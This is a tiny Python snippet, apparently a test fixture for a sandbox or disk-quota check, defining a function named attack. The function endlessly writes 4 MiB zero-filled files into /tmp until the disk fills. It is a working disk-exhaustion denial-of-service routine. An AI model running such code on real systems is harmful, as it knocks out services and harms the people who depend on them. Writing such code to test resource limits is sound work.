import itertools


def attack():
    for number in itertools.count():
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(4 << 20))
